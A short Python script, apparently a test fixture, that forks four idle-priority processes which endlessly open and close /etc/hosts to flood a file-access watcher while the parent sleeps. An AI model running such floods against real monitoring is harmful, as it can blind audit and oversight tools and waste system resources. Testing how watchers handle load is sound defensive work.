"""Lets others go first for as long as there are any, floods the watcher, and waits."""

import os
import time

for _ in range(4):
    if os.fork() == 0:
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
        while True:
            os.close(os.open("/etc/hosts", os.O_RDONLY))
time.sleep(60)
